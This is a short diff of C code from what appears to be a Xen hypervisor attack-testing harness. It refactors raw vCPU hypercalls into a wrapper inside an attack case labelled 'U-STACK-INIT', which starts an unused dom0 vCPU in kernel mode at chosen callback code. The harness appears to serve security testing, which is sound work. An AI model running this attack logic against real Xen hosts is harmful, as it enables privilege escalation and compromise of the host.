@@ -65,8 +65,8 @@ static void start(unsigned int vcpu, uint64_t stack)
     context->failsafe_callback_eip = code;
     context->syscall_callback_eip = code;
 
-    hypercall3(__HYPERVISOR_vcpu_op, VCPUOP_initialise, vcpu, context);
-    hypercall3(__HYPERVISOR_vcpu_op, VCPUOP_up, vcpu, 0);
+    vcpu_op(VCPUOP_initialise, vcpu, context);
+    vcpu_op(VCPUOP_up, vcpu, 0);
 }
 
 /*
@@ -82,7 +82,7 @@ PV_ATTACK("U-STACK-INIT", "start an unused vCPU of dom0's in kernel mode",
     const unsigned int unused = (unsigned int)sysconf(_SC_NPROCESSORS_CONF);
     uint8_t *page = buffer(PAGE_SIZE);
 
-    if ( hypercall3(__HYPERVISOR_vcpu_op, VCPUOP_is_up, unused, 0) == -ENOENT )
+    if ( vcpu_op(VCPUOP_is_up, unused, 0) == -ENOENT )
         return not_applicable("the kernel uses all vCPUs of this dom0");
     if ( !kernel_alias(page) || !own_root() || !victim() )
         return cannot_try("no address for our page or the victim, or no root");
